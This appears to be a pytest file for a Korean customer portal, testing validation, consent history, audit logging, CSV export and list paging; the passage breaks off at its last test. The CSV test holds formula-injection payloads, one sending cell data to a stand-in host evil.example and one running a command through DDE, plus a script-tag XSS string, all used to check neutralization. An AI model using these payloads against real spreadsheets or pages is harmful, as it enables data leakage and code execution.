"""Customer pages and service rules: validation, normalization, consent history, data quality,
complaint, household, audit trail, access log, CSV export, sorting, paging and empty states.

Scope is proven route by route in test_access_matrix.py; here every test makes its own customers
(so they share one app and stay independent) and checks what the user sees and what is stored.
"""

from __future__ import annotations

import csv
import html
import io
import json
import re
from datetime import date, timedelta

import pytest
from sqlalchemy import select, text

from tests.conftest import csrf_token, login, scalar, sql

ADMIN, STORE1, STORE2, LEADER1, IBO1 = ("admin@example.com", "store1@example.com", "store2@example.com",
                                        "leader1@example.com", "ibo1@example.com")




@pytest.fixture(scope="module")
def users(shared_app):
    """A logged-in browser per role, each with its CSRF token at hand (``client.csrf``)."""
    clients = {}
    for email in (ADMIN, STORE1, STORE2, LEADER1, IBO1):
        client = shared_app.test_client()
        assert login(client, email).status_code == 302
        client.csrf = csrf_token(client, "/dashboard")
        clients[email] = client
    return clients


def post(client, url: str, data: dict):
    return client.post(url, data={**data, "csrf_token": client.csrf})



def customer(cid: int):
    from portal.extensions import db
    from portal.models import Customer

    db.session.expire_all()
    return db.session.get(Customer, cid)


def user(email: str):
    from portal.extensions import db
    from portal.models import User

    return db.session.execute(select(User).where(User.email == email)).scalar_one()


def new_customer(client, **fields) -> int:
    """Create through the HTML form; returns the new id."""
    data = {"name": "테스트고객", "branch_code": "B001", **fields}
    resp = post(client, "/customers/new", data)
    assert resp.status_code == 302, field_errors(resp.get_data(as_text=True)) or resp.get_data(as_text=True)[:500]
    return int(resp.headers["Location"].split("/")[-1].split("?")[0])


def field_errors(html_text: str) -> dict[str, list[str]]:
    """Error messages shown next to each form field: {field name: [messages]}."""
    out = {}
    for chunk in html_text.split('<div class="field')[1:]:
        name = re.search(r'name="(\w+)"', chunk)
        messages = re.findall(r'<small class="error">([^<]*)</small>', chunk.split("</div>")[0])
        if name and messages:
            out[name.group(1)] = messages
    return out


def audit_actions(cid: int) -> list[str]:
    return [r[0] for r in sql("SELECT action FROM audit_event WHERE object_type = 'customer' AND object_id = :i "
                              "ORDER BY id", i=str(cid))]


def customer_count() -> int:
    return scalar("SELECT COUNT(*) FROM customer")


# -- phone, e-mail and postal code normalization --------------------------------------------------


@pytest.mark.parametrize("raw,expected", [
    ("010-1234-5678", "01012345678"),
    ("01012345678", "01012345678"),
    ("010 1234 5678", "01012345678"),
    ("010.1234.5678", "01012345678"),
    ("(010) 1234-5678", "01012345678"),
    ("+82 10 1234 5678", "01012345678"),
    ("+82-10-1234-5678", "01012345678"),
    ("+82 010-1234-5678", "01012345678"),
    ("+821012345678", "01012345678"),
    ("  010-1234-5678  ", "01012345678"),
    ("011-123-4567", "0111234567"),
    ("02-123-4567", "021234567"),
    ("02-1234-5678", "0212345678"),
    ("+82 2 1234 5678", "0212345678"),
    ("031-123-4567", "0311234567"),
    ("051-1234-5678", "05112345678"),
    ("070-1234-5678", "07012345678"),
    # not Korean phone numbers
    ("", None), ("   ", None), ("123", None), ("010-123", None), ("010-1234-56789", None), ("1234-5678", None),
    ("02-12-345", None), ("02-1234-56789", None), ("090-1234-5678", None), ("015-1234-5678", None),
    ("010-1234-567a", None), ("O10-1234-5678", None), ("010–1234–5678x", None), ("+1 415 555 0100", None),
    ("+44 20 7946 0958", None), ("010/1234/5678", None), ("0101234567８", None), ("phone", None),
])
def test_phone_normalization(raw, expected):
    from portal.customers.normalize import normalize_phone

    assert normalize_phone(raw) == expected


@pytest.mark.parametrize("digits,shown", [
    ("01012345678", "010-1234-5678"), ("0111234567", "011-123-4567"), ("021234567", "02-123-4567"),
    ("0212345678", "02-1234-5678"), ("0311234567", "031-123-4567"), ("07012345678", "070-1234-5678"), (None, ""),
])
def test_phone_display_format(digits, shown):
    from portal.customers.normalize import format_phone, normalize_phone

    assert format_phone(digits) == shown
    if digits:
        assert normalize_phone(shown) == digits, "display format reads back to the same number"


@pytest.mark.parametrize("raw,expected", [
    ("Kim@Example.COM", "kim@example.com"), (" lee.s@naver.com ", "lee.s@naver.com"), ("no-at-sign", None),
    ("a@b", None), ("two@@example.com", None), ("", None), ("kim@example.com\n", "kim@example.com"),
])
def test_email_normalization(raw, expected):
    from portal.customers.normalize import normalize_email

    assert normalize_email(raw) == expected


@pytest.mark.parametrize("raw,ok", [("06236", True), ("6236", False), ("062361", False), ("0623a", False),
                                    ("", False), (None, False), (" 06236 ", True)])
def test_postal_code(raw, ok):
    from portal.customers.normalize import postal_code_valid

    assert postal_code_valid(raw) is ok


# -- create and edit: validation shown, nothing saved ------------------------------------------------


@pytest.mark.parametrize("fields,bad", [
    ({"phone": "010-12"}, "phone"),
    ({"phone": "010-1234-567a"}, "phone"),
    ({"email": "kim@"}, "email"),
    ({"postal_code": "1234"}, "postal_code"),
    ({"postal_code": "12a45"}, "postal_code"),
    ({"birth_date": (date.today() + timedelta(days=1)).isoformat()}, "birth_date"),
    ({"birth_date": "1850-01-01"}, "birth_date"),
    ({"birth_date": "not-a-date"}, "birth_date"),
    ({"branch_code": "", "partner_code": ""}, "branch_code"),
    ({"name": ""}, "name"),
    ({"name": "x" * 121}, "name"),
    ({"partner_code": "G99-0001"}, "partner_code"),
    ({"gender": "X"}, "gender"),
])
def test_create_form_shows_errors_and_saves_nothing(users, fields, bad):
    client = users[STORE1]
    before = (customer_count(), scalar("SELECT COUNT(*) FROM audit_event"))
    data = {"name": "검증고객", "phone": "010-2222-3333", "branch_code": "B001", **fields}
    resp = post(client, "/customers/new", data)
    assert resp.status_code == 400
    body = resp.get_data(as_text=True)
    assert bad in field_errors(body), f"no error shown next to {bad}: {field_errors(body)}"
    assert 'role="alert"' in body, "a summary says nothing was saved"
    if fields.get("phone"):
        assert f'value="{fields["phone"]}"' in body, "what the user typed is kept in the form"
    assert (customer_count(), scalar("SELECT COUNT(*) FROM audit_event")) == before


def test_create_form_collects_all_errors_at_once(users):
    resp = post(users[STORE1], "/customers/new", {"name": "여러오류", "phone": "12", "email": "x@", "postal_code": "123",
                                                  "birth_date": "2999-01-01", "branch_code": "B001"})
    assert set(field_errors(resp.get_data(as_text=True))) >= {"phone", "email", "postal_code", "birth_date"}


def test_create_form_stores_normalized_values(users):
    cid = new_customer(users[STORE1], name="  정규화  ", phone="+82 10 3333 4444", email="Jung@Example.com",
                       postal_code="06236", address="서울특별시 강남구 테헤란로 1", birth_date="1980-05-06", gender="F")
    c = customer(cid)
    assert (c.name, c.phone, c.email, c.postal_code, c.birth_date, c.gender) == (
        "정규화", "01033334444", "jung@example.com", "06236", date(1980, 5, 6), "F")
    assert c.code == f"C{cid:07d}" and c.branch.code == "B001" and c.partner is None
    assert c.open_quality_issues == []
    page = users[STORE1].get(f"/customers/{cid}").get_data(as_text=True)
    assert "010-3333-4444" in page


def test_edit_form_shows_errors_and_saves_nothing(users):
    client = users[STORE1]
    cid = new_customer(client, phone="010-4444-5555")
    row = sql("SELECT * FROM customer WHERE id = :i", i=cid)
    events = audit_actions(cid)
    for fields, bad in (({"phone": "02-12"}, "phone"), ({"email": "@x"}, "email"), ({"postal_code": "1234"}, "postal_code"),
                        ({"birth_date": "2999-12-31"}, "birth_date"), ({"branch_code": ""}, "branch_code"),
                        ({"name": " "}, "name")):
        data = {"name": "바뀐이름", "phone": "010-4444-5555", "branch_code": "B001", "note": "changed", **fields}
        resp = post(client, f"/customers/{cid}/edit", data)
        assert resp.status_code == 400
        assert bad in field_errors(resp.get_data(as_text=True))
        assert sql("SELECT * FROM customer WHERE id = :i", i=cid) == row, "nothing of the valid fields was saved either"
    assert audit_actions(cid) == events


def test_edit_form_ignores_extra_posted_fields(users):
    client = users[STORE1]
    cid = new_customer(client)
    before = customer(cid)
    code, created, household = before.code, before.created_at, before.household_id
    resp = post(client, f"/customers/{cid}/edit", {
        "name": "추가필드", "branch_code": "B001", "note": "ok",
        # none of these is a form field: all must be ignored
        "complaint": "y", "complaint_note": "x", "tier": "VIP", "code": "C0000001", "id": "1", "branch_id": "6",
        "partner_id": "1", "household_id": "1", "created_at": "2000-01-01", "pseudonymized_at": "2000-01-01"})
    assert resp.status_code == 302
    c = customer(cid)
    assert (c.name, c.note) == ("추가필드", "ok")
    assert (c.code, c.created_at, c.household_id, c.complaint, c.complaint_note, c.tier, c.branch.code, c.partner_id,
            c.pseudonymized_at) == (code, created, household, False, None, None, "B001", None, None)
    post(client, "/customers/new", {"name": "추가필드2", "branch_code": "B001", "tier": "VIP", "complaint": "y",
                                    "code": "HACK", "id": "5"})
    c2 = customer(scalar("SELECT MAX(id) FROM customer"))
    assert c2.name == "추가필드2" and c2.tier is None and c2.complaint is False and c2.code == f"C{c2.id:07d}"


def test_store_cannot_create_or_move_a_customer_to_another_branch(users):
    client = users[STORE1]
    before = customer_count()
    resp = post(client, "/customers/new", {"name": "남의지점", "branch_code": "B002"})
    assert resp.status_code == 400 and "branch_code" in field_errors(resp.get_data(as_text=True))
    assert 'value="B002"' not in resp.get_data(as_text=True), "other branches are not even offered"
    assert customer_count() == before
    cid = new_customer(client)
    resp = post(client, f"/customers/{cid}/edit", {"name": "이동", "branch_code": "B002"})
    assert resp.status_code == 400
    assert customer(cid).branch.code == "B001"


def test_distributor_cannot_assign_a_partner_outside_the_downline(users):
    client = users[IBO1]
    before = customer_count()
    for code in ("G01-0007", "G01-0001", "G02-0002"):
        resp = post(client, "/customers/new", {"name": "다운라인밖", "partner_code": code})
        assert resp.status_code == 400 and "partner_code" in field_errors(resp.get_data(as_text=True)), code
    assert customer_count() == before
    cid = new_customer(client, branch_code="", partner_code="G01-0004")
    resp = post(client, f"/customers/{cid}/edit", {"name": "다운라인밖", "partner_code": "G01-0008"})
    assert resp.status_code == 400
    assert customer(cid).partner.code == "G01-0004"
    resp = post(client, f"/customers/{cid}/edit", {"name": "다운라인안", "partner_code": "G01-0005"})
    assert resp.status_code == 302 and customer(cid).partner.code == "G01-0005"


def test_co_owners_can_edit_while_keeping_an_owner_outside_their_scope(users):
    """A store edits a customer its distributor co-owns (and the other way round): keeping the
    other owner unchanged is allowed, moving to a new out-of-scope owner is not."""
    admin = users[ADMIN]
    cid = new_customer(admin, branch_code="B001", partner_code="G01-0003", name="공동소유")
    form = users[STORE1].get(f"/customers/{cid}/edit").get_data(as_text=True)
    assert 'value="G01-0003"' in form
    resp = post(users[STORE1], f"/customers/{cid}/edit", {"name": "매장수정", "branch_code": "B001", "partner_code": "G01-0003"})
    assert resp.status_code == 302, field_errors(resp.get_data(as_text=True))
    resp = post(users[IBO1], f"/customers/{cid}/edit", {"name": "IBO수정", "branch_code": "B001", "partner_code": "G01-0003"})
    assert resp.status_code == 302, field_errors(resp.get_data(as_text=True))
    resp = post(users[LEADER1], f"/customers/{cid}/edit", {"name": "리더수정", "branch_code": "B001", "partner_code": "G01-0003"})
    assert resp.status_code == 302, field_errors(resp.get_data(as_text=True))
    c = customer(cid)
    assert (c.name, c.branch.code, c.partner.code) == ("리더수정", "B001", "G01-0003")
    resp = post(users[IBO1], f"/customers/{cid}/edit", {"name": "IBO수정", "branch_code": "B002", "partner_code": "G01-0003"})
    assert resp.status_code == 400
    resp = post(users[STORE1], f"/customers/{cid}/edit", {"name": "매장수정", "branch_code": "B001", "partner_code": "G01-0004"})
    assert resp.status_code == 400
    assert customer(cid).partner.code == "G01-0003" and customer(cid).branch.code == "B001"


def test_service_layer_without_http(shared_app):
    """The rules live in the service: callable from CLI, imports and tests alike."""
    from portal.customers.service import CustomerError, create_customer, update_customer
    from portal.extensions import db

    store1 = user(STORE1)
    with shared_app.test_request_context():
        with pytest.raises(CustomerError) as exc:
            create_customer(store1, {"name": "서비스", "branch_code": "B002", "phone": "1"})
        assert set(exc.value.errors) == {"branch_code", "phone"}
        db.session.rollback()
        with pytest.raises(CustomerError) as exc:
            create_customer(store1, {"name": "서비스", "branch_code": "B001", "tier": "VIP"})
        assert set(exc.value.errors) == {"tier"}
        db.session.rollback()
        c = create_customer(store1, {"name": "서비스", "branch_code": "b001", "phone": "02-123-4567"})
        assert c.phone == "021234567" and c.code == f"C{c.id:07d}"
        changes = update_customer(store1, c, {"note": "메모", "phone": "02-123-4567"})
        assert changes == {"note": (None, "메모")}, "an unchanged value is no change"
        db.session.commit()


# -- consent history -------------------------------------------------------------------------------


def test_consent_is_append_only_and_current_is_newest(users):
    from portal.customers.service import current_consents

    client = users[STORE1]
    cid = new_customer(client)
    for granted, method in (("1", "paper"), ("0", "phone"), ("1", "web")):
        resp = post(client, f"/customers/{cid}/consent", {"channel": "sms", "purpose": "marketing", "granted": granted,
                                                          "method": method, "note": f"via {method}"})
        assert resp.status_code == 302
    post(client, f"/customers/{cid}/consent", {"channel": "email", "purpose": "marketing", "granted": "0",
                                               "method": "store"})
    rows = sql("SELECT channel, granted, method, recorded_by_id, note FROM consent WHERE customer_id = :i ORDER BY id",
               i=cid)
    assert [(r.channel, bool(r.granted), r.method) for r in rows] == [
        ("sms", True, "paper"), ("sms", False, "phone"), ("sms", True, "web"), ("email", False, "store")]
    assert {r.recorded_by_id for r in rows} == {user(STORE1).id} and rows[0].note == "via paper"
    current = current_consents(customer(cid))
    assert current[("sms", "marketing")].granted is True and current[("sms", "marketing")].method == "web"
    assert current[("email", "marketing")].granted is False and ("dm", "marketing") not in current
    page = client.get(f"/customers/{cid}?tab=consent").get_data(as_text=True)
    assert page.count('data-testid="consent-row"') == 2, "one current row per channel/purpose"
    assert page.count("via ") == 3, "the history shows every event"
    events = sql("SELECT changes FROM audit_event WHERE action = 'customer.consent' AND object_id = :i ORDER BY id",
                 i=str(cid))
    changes = [e[0] if isinstance(e[0], dict) else json.loads(e[0]) for e in events]
    assert changes[:3] == [{"consent.sms.marketing": [None, True]}, {"consent.sms.marketing": [True, False]},
                           {"consent.sms.marketing": [False, True]}]


def test_consent_with_unknown_values_is_refused(users):
    client = users[STORE1]
    cid = new_customer(client)
    for data in ({"channel": "fax", "purpose": "marketing", "granted": "1", "method": "paper"},
                 {"channel": "sms", "purpose": "spam", "granted": "1", "method": "paper"},
                 {"channel": "sms", "purpose": "marketing", "granted": "1", "method": "telepathy"}):
        assert post(client, f"/customers/{cid}/consent", data).status_code == 302
    assert scalar("SELECT COUNT(*) FROM consent WHERE customer_id = :i", i=cid) == 0
    assert "customer.consent" not in audit_actions(cid)


# -- data quality and complaint -----------------------------------------------------------------------


def test_quality_issues_open_for_missing_contact_data_and_resolve_when_fixed(users):
    client = users[STORE1]
    cid = new_customer(client)  # no phone, e-mail, address or postal code
    assert {q.field for q in customer(cid).open_quality_issues} == {"phone", "email", "address", "postal_code"}
    page = client.get(f"/customers/{cid}").get_data(as_text=True)
    assert page.count('class="badge warn"') == 4
    resp = post(client, f"/customers/{cid}/edit", {"name": "테스트고객", "branch_code": "B001", "phone": "010-7777-8888",
                                                  "postal_code": "06236"})
    assert resp.status_code == 302
    c = customer(cid)
    assert {q.field for q in c.open_quality_issues} == {"email", "address"}
    fixed = [q for q in c.quality_issues if q.field == "phone"][0]
    assert fixed.resolved_at is not None and fixed.resolved_by_id == user(STORE1).id
    # Emptying the phone again opens a new issue; the old one stays resolved (history).
    post(client, f"/customers/{cid}/edit", {"name": "테스트고객", "branch_code": "B001", "phone": "", "postal_code": "06236"})
    assert [q.resolved_at is None for q in customer(cid).quality_issues if q.field == "phone"].count(True) == 1
    assert len([q for q in customer(cid).quality_issues if q.field == "phone"]) == 2


def test_manual_quality_flag_and_resolve(users):
    client = users[STORE1]
    cid = new_customer(client, phone="010-1212-3434", email="ok@example.com", address="서울 강남구 1",
                       postal_code="06236")
    assert customer(cid).open_quality_issues == []
    assert post(client, f"/customers/{cid}/quality", {"field": "address", "reason": "반송 우편"}).status_code == 302
    issue = customer(cid).open_quality_issues[0]
    assert (issue.field, issue.reason, issue.created_by_id) == ("address", "반송 우편", user(STORE1).id)
    assert post(client, f"/customers/{cid}/quality", {"field": "address", "reason": ""}).status_code == 302
    assert post(client, f"/customers/{cid}/quality", {"field": "shoe_size", "reason": "x"}).status_code == 302
    assert len(customer(cid).quality_issues) == 1, "no reason / unknown field: refused"
    # An issue of another customer cannot be resolved through this one.
    other = new_customer(client)
    foreign_issue = customer(other).open_quality_issues[0].id
    post(client, f"/customers/{cid}/quality/resolve", {"issue_id": str(foreign_issue)})
    assert customer(other).quality_issues[0].resolved_at is None
    post(client, f"/customers/{cid}/quality/resolve", {"issue_id": "abc"})
    assert post(client, f"/customers/{cid}/quality/resolve", {"issue_id": str(issue.id)}).status_code == 302
    assert customer(cid).open_quality_issues == []
    assert audit_actions(cid)[-2:] == ["customer.quality_flagged", "customer.quality_resolved"]
    ids = [i for (i,) in sql("SELECT id FROM customer c WHERE EXISTS (SELECT 1 FROM quality_issue q WHERE "
                             "q.customer_id = c.id AND q.resolved_at IS NULL)")]
    listed = client.get("/customers/?quality=open&per_page=200").get_data(as_text=True)
    assert f'href="/customers/{other}"' in listed and f'href="/customers/{cid}"' not in listed and other in ids


def test_complaint_flag(users):
    client = users[STORE1]
    cid = new_customer(client)
    assert post(client, f"/customers/{cid}/complaint", {"complaint": "y", "note": "배송 지연"}).status_code == 302
    c = customer(cid)
    assert c.complaint is True and c.complaint_note == "배송 지연"
    assert 'class="badge danger"' in client.get(f"/customers/{cid}").get_data(as_text=True)
    assert f'href="/customers/{cid}"' in client.get("/customers/?complaint=1&per_page=200").get_data(as_text=True)
    post(client, f"/customers/{cid}/complaint", {"note": ""})  # unchecked box = resolved
    c = customer(cid)
    assert c.complaint is False and c.complaint_note is None
    assert audit_actions(cid).count("customer.complaint") == 2
    # Only roles with customer.flag may set it (leader1 sees the customer? not this one) — distributor:
    co_owned = new_customer(users[ADMIN], branch_code="B001", partner_code="G01-0003")
    assert post(users[IBO1], f"/customers/{co_owned}/complaint", {"complaint": "y"}).status_code == 403
    assert customer(co_owned).complaint is False


def test_nul_bytes_are_refused_up_front(users):
    """PostgreSQL text cannot hold NUL: any parameter with one answers 400 and nothing is written."""
    client = users[STORE1]
    cid = new_customer(client)
    before = (scalar("SELECT COUNT(*) FROM consent"), scalar("SELECT COUNT(*) FROM audit_event"))
    for url, data in ((f"/customers/{cid}/consent", {"channel": "sms", "purpose": "service", "granted": "1",
                                                     "method": "paper", "note": "종이\x00동의"}),
                      (f"/customers/{cid}/quality", {"field": "phone", "reason": "번호\x00오류"}),
                      (f"/customers/{cid}/complaint", {"complaint": "y", "note": "불만\x00"}),
                      (f"/customers/{cid}/household", {"new_name": "가족\x00"}),
                      ("/customers/new", {"name": "널\x00바이트", "branch_code": "B001"}),
                      ("/customers/?q=%00", None), ("/customers/export.csv?branch=%00", None)):
        resp = post(client, url, data) if data else client.get(url, buffered=True)
        assert resp.status_code == 400, url
    assert (scalar("SELECT COUNT(*) FROM consent"), scalar("SELECT COUNT(*) FROM audit_event")) == before
    c = customer(cid)
    assert c.complaint is False and c.household is None


# -- household -------------------------------------------------------------------------------------


def test_household_new_join_leave_and_out_of_scope(users):
    client = users[STORE1]
    a, b = new_customer(client, name="가족하나"), new_customer(client, name="가족둘")
    assert post(client, f"/customers/{a}/household", {"new_name": "김씨 가족"}).status_code == 302
    hid = customer(a).household_id
    assert hid and customer(a).household.name == "김씨 가족"
    assert post(client, f"/customers/{b}/household", {"household_id": str(hid)}).status_code == 302
    assert customer(b).household_id == hid
    assert {m.id for m in customer(a).household.members} == {a, b}
    # A household whose members all belong to another branch is refused, and changes nothing.
    foreign = new_customer(users[STORE2], branch_code="B002")
    post(users[STORE2], f"/customers/{foreign}/household", {"new_name": "분당 가족"})
    foreign_hid = customer(foreign).household_id
    events = audit_actions(b)
    assert post(client, f"/customers/{b}/household", {"household_id": str(foreign_hid)}).status_code == 302
    assert customer(b).household_id == hid and audit_actions(b) == events
    for junk in ("abc", "99999999", "-1"):
        post(client, f"/customers/{b}/household", {"household_id": junk})
        assert customer(b).household_id == hid
    # Leaving: both fields empty.
    assert post(client, f"/customers/{b}/household", {"household_id": "", "new_name": ""}).status_code == 302
    assert customer(b).household_id is None
    assert audit_actions(b).count("customer.household") == 2


# -- audit trail and access log ---------------------------------------------------------------------


def test_every_change_writes_an_audit_event(users):
    client = users[STORE1]
    cid = new_customer(client)
    post(client, f"/customers/{cid}/edit", {"name": "감사", "branch_code": "B001", "phone": "010-9090-8080"})
    post(client, f"/customers/{cid}/consent", {"channel": "dm", "purpose": "marketing", "granted": "1", "method": "paper"})
    post(client, f"/customers/{cid}/quality", {"field": "name", "reason": "오타"})
    issue = customer(cid).open_quality_issues[0].id
    post(client, f"/customers/{cid}/quality/resolve", {"issue_id": str(issue)})
    post(client, f"/customers/{cid}/complaint", {"complaint": "y", "note": "불만"})
    post(client, f"/customers/{cid}/household", {"new_name": "감사 가족"})
    assert audit_actions(cid) == ["customer.created", "customer.updated", "customer.consent", "customer.quality_flagged",
                                  "customer.quality_resolved", "customer.complaint", "customer.household"]
    rows = sql("SELECT actor_id, actor_label, ip, changes FROM audit_event WHERE object_type = 'customer' "
               "AND object_id = :i ORDER BY id", i=str(cid))
    assert {(r.actor_id, r.actor_label) for r in rows} == {(user(STORE1).id, STORE1)}
    assert all(r.ip for r in rows)
    updated = rows[1].changes if isinstance(rows[1].changes, dict) else json.loads(rows[1].changes)
    assert updated == {"name": ["테스트고객", "감사"], "phone": [None, "01090908080"]}
    # Viewing the History tab shows them.
    history = client.get(f"/customers/{cid}?tab=history").get_data(as_text=True)
    assert "customer.quality_resolved" in history or "quality_resolved" in history


def test_detail_views_and_exports_are_access_logged(users):
    client = users[STORE1]
    cid = new_customer(client)
    uid = user(STORE1).id

    def log():
        return sql("SELECT action, object_id, count, detail, ip FROM access_log WHERE user_id = :u ORDER BY id", u=uid)

    start = len(log())
    client.get(f"/customers/{cid}")
    client.get(f"/customers/{cid}?tab=purchases")
    client.get("/customers/export.csv?q=테스트", buffered=True)
    client.get("/customers/?q=테스트")
    new = log()[start:]
    assert [r.action for r in new] == ["view", "view", "export", "list"]
    assert new[0].object_id == str(cid) and new[0].detail == "tab=overview" and new[1].detail == "tab=purchases"
    expected = scalar("SELECT COUNT(*) FROM customer c JOIN org_unit o ON o.id = c.branch_id "
                      "WHERE o.code = 'B001' AND c.name LIKE '테스트%'")
    assert new[2].count == expected > 0 and "테스트" in new[2].detail
    assert all(r.ip for r in new)
    # Refused or missing: nothing shown, nothing logged.
    client.get("/customers/99999999")
    client.get(f"/customers/{new_customer(users[STORE2], branch_code='B002')}")
    assert len(log()) == start + 4


def test_access_log_and_audit_cannot_be_rewritten(shared_app):
    """Append-only at the database level: UPDATE is refused even outside the app."""
    from sqlalchemy.exc import DatabaseError

    from portal.extensions import db

    for table in ("access_log", "audit_event"):
        with pytest.raises(DatabaseError):
            db.session.execute(text(f"UPDATE {table} SET ip = '6.6.6.6'"))
            db.session.flush()
        db.session.rollback()


# -- CSV export --------------------------------------------------------------------------------------


FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1", "-1", "@SUM(1+1)", "\t=1+2", "\r=1+2",
            "=cmd|' /C calc'!A0"]


def test_csv_export_neutralizes_formula_cells(shared_app, users):
    from portal.extensions import db
    from portal.models import Customer, OrgUnit

    b001 = db.session.execute(select(OrgUnit).where(OrgUnit.code == "B001")).scalar_one()
    ids = []
    for i, payload in enumerate(FORMULAS):
        c = Customer(code=f"X{i:07d}", name=payload, address=payload, email=None, branch_id=b001.id,
                     note=payload)
        db.session.add(c)
        db.session.flush()
        ids.append(c.id)
    db.session.commit()
    resp = users[STORE1].get("/customers/export.csv", buffered=True)
    assert resp.status_code == 200
    assert resp.mimetype == "text/csv" and "attachment" in resp.headers["Content-Disposition"]
    assert resp.headers["Cache-Control"] == "no-store"
    raw = resp.get_data()
    assert raw.startswith("\ufeff".encode()), "UTF-8 BOM so Excel reads Korean correctly"
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8")[1:])))
    header = rows[0]
    assert header[:3] == ["고객 번호", "이름", "전화번호"]  # in the user's language (Korean by default)
    from portal.customers.service import EXPORT_COLUMNS

    header = list(EXPORT_COLUMNS)  # the checks below name the columns by code
    by_code = {r[0]: dict(zip(header, r, strict=True)) for r in rows[1:]}
    for i, payload in enumerate(FORMULAS):
        row = by_code[f"X{i:07d}"]
        for column in ("name", "address"):
            assert row[column] == "'" + payload, (column, row[column])
    for row in by_code.values():
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    # Ordinary values are untouched (Korean text, phone with dashes inside, dates).
    ordinary = next(r for r in by_code.values() if r["phone"])
    assert re.fullmatch(r"0\d{1,2}-\d{3,4}-\d{4}", ordinary["phone"])
    # The HTML list shows the same names escaped, not as markup.
    db.session.add(Customer(code="X9999999", name="<script>alert(1)</script>", branch_id=b001.id))
    db.session.commit()
    page = users[STORE1].get("/customers/?q=<script>").get_data(as_text=True)
    assert "<script>alert(1)</script>" not in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page


def test_csv_export_follows_filters_and_scope(users):
    client = users[STORE1]
    resp = client.get("/customers/export.csv?complaint=1", buffered=True)
    rows = list(csv.reader(io.StringIO(resp.get_data(as_text=True)[1:])))[1:]
    expected = {r[0] for r in sql("SELECT c.code FROM customer c JOIN org_unit o ON o.id = c.branch_id "
                                  "WHERE o.code = 'B001' AND c.complaint = :t", t=True)}
    assert {r[0] for r in rows} == expected and all(r[10] == "Y" for r in rows)


# -- list: sorting, paging, empty states -------------------------------------------------------------


ROW_RE = re.compile(r'data-testid="customer-row">\s*<td><a href="/customers/(\d+)">([^<]+)</a></td>\s*'
                    r'<td><a href="/customers/\d+">([^<]*)</a>')


def listed(client, url: str) -> list[tuple[int, str, str]]:
    rows = ROW_RE.findall(client.get(url).get_data(as_text=True))
    return [(int(i), html.unescape(code), html.unescape(name)) for i, code, name in rows]


def test_list_sorting(users):
    client = users[ADMIN]
    by_code = listed(client, "/customers/?sort=code&per_page=200")
    assert [c for _i, c, _n in by_code] == sorted(c for _i, c, _n in by_code) and len(by_code) == 200
    assert by_code[0][1] == scalar("SELECT MIN(code) FROM customer")
    desc = listed(client, "/customers/?sort=-code&per_page=200")
    assert desc[0][1] == scalar("SELECT MAX(code) FROM customer")
    assert [c for _i, c, _n in desc] == sorted((c for _i, c, _n in desc), reverse=True)
    by_name = listed(client, "/customers/?sort=name&per_page=200")
    assert [(n, i) for i, _c, n in by_name] == sorted((n, i) for i, _c, n in by_name)
    newest = listed(client, "/customers/?sort=-created&per_page=5")
    assert newest[0][0] == scalar("SELECT id FROM customer ORDER BY created_at DESC, id DESC LIMIT 1")
    # unknown sort keys fall back to name
    assert listed(client, "/customers/?sort=password_hash&per_page=200") == by_name
    page = client.get("/customers/?sort=code").get_data(as_text=True)
    assert 'href="/customers/?sort=-code&amp;page=1"' in page, "clicking the sorted column reverses it"


def test_list_pagination(users):
    client = users[ADMIN]
    total = customer_count()
    first = client.get("/customers/?sort=code&per_page=50").get_data(as_text=True)
    assert f"{total:,}" in first
    assert 'rel="next"' in first and 'rel="prev"' not in first
    next_url = re.search(r'<a href="([^"]+)" rel="next"', first).group(1).replace("&amp;", "&")
    assert "per_page=50" in next_url and "sort=code" in next_url and "page=2" in next_url
    walked, url = [], "/customers/?sort=code&per_page=50"
    while url:
        body = client.get(url).get_data(as_text=True)
        walked += [int(i) for i, _c, _n in ROW_RE.findall(body)]
        m = re.search(r'<a href="([^"]+)" rel="next"', body)
        url = m.group(1).replace("&amp;", "&") if m else None
    assert len(walked) == total == len(set(walked))
    last = client.get(f"/customers/?sort=code&per_page=50&page={-(-total // 50)}").get_data(as_text=True)
    assert 'rel="prev"' in last and 'rel="next"' not in last
    for junk in ("page=abc", "page=-1", "per_page=0", "per_page=abc"):
        assert client.get(f"/customers/?{junk}").status_code == 200, junk
    # Past the end (an old link): the last page, not a misleading "no customers yet".
    resp = client.get("/customers/?sort=code&per_page=50&page=99999999999999999999")
    assert resp.status_code == 302
    redirected = client.get(resp.headers["Location"]).get_data(as_text=True)
    assert ROW_RE.findall(redirected) == ROW_RE.findall(last) != []


def test_helpful_empty_state_when_nothing_matches(users):
    client = users[STORE1]
    body = client.get("/customers/?q=없는이름없는이름").get_data(as_text=True)
    assert 'data-testid="customer-row"' not in body
    assert 'class="empty"' in body
    assert '<a href="/customers/">' in body, "a way to clear the search"
    assert 'value="없는이름없는이름"' in body, "the search term stays in the box"


def test_helpful_empty_state_for_a_new_branch(shared_app):
    """A store with no customers yet is invited to add the first one."""
    from portal.extensions import db
    from portal.org.service import create_unit
    from portal.security.roles import BRANCH_STAFF
    from portal.users.service import create_user, grant_local

    branch = create_unit("B099", "신규점", "branch", "R01")
    staff = create_user("new-store@example.com", "신규점 직원", "a-long-enough-passphrase-2026")
    grant_local(staff, BRANCH_STAFF, branch)
    db.session.commit()
    client = shared_app.test_client()
    assert login(client, "new-store@example.com", "a-long-enough-passphrase-2026").status_code == 302
    body = client.get("/customers/").get_data(as_text=True)
    assert 'data-testid="customer-row"' not in body and 'class="empty"' in body
    assert 'href="/customers/new"' in body


@pytest.mark.parametrize("ident", ["0", "-1", "abc", "1.5", "1_0", "%201", "999999999999", "9" * 30, "%00"])
def test_odd_customer_ids_answer_404(users, ident):
    for url in (f"/customers/{ident}", f"/customers/{ident}/edit", f"/customers/{ident}?tab=history"):
        assert users[ADMIN].get(url).status_code == 404, url
    assert post(users[ADMIN], f"/customers/{ident}/complaint", {"complaint": "y"}).status_code == 404


def test_co_owner_cannot_remove_an_owner_outside_their_scope(app):
    """store1 co-owns a customer with a G01 distributor: it may edit the customer, but not drop
    or replace the distributor it cannot see (and vice versa for the leader and the branch)."""
    from sqlalchemy import select

    from portal.auth.service import find_user
    from portal.customers.service import CustomerError, update_customer
    from portal.extensions import db
    from portal.models import Customer, OrgUnit, Partner

    b001 = db.session.execute(select(OrgUnit).where(OrgUnit.code == "B001")).scalar_one()
